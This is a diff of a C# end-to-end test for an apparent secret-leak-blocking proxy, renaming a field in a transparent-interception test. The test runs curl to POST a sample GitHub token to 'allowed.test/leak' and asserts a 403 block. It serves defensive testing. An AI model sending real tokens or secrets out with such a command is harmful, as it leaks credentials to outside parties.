@@ -6,7 +6,7 @@ namespace Pipelock.EndToEnd.Tests.Interception;
 /// <summary>A client that knows of no proxy is served, and held to the same rules.</summary>
 public sealed class TransparentTests
 {
-    private static readonly string Secret = SecretSamples.All.Single(sample => sample.Kind == "GitHub Token").Text;
+    private static readonly string s_secret = SecretSamples.All.Single(sample => sample.Kind == "GitHub Token").Text;
 
     [LabTheory]
     [InlineData(0)]
@@ -22,7 +22,7 @@ public sealed class TransparentTests
         foreach (var scheme in new[] { "http", "https" })
         {
             var (code, output) = await lab.CurlAsync(
-                "-d", $"{{\"note\":\"{Secret}\"}}", "-w", "%{http_code}", $"{scheme}://allowed.test/leak");
+                "-d", $"{{\"note\":\"{s_secret}\"}}", "-w", "%{http_code}", $"{scheme}://allowed.test/leak");
             Assert.True(code == failures
                 && output.EndsWith("403", StringComparison.Ordinal), $"{scheme}: {code} {output}");
         }
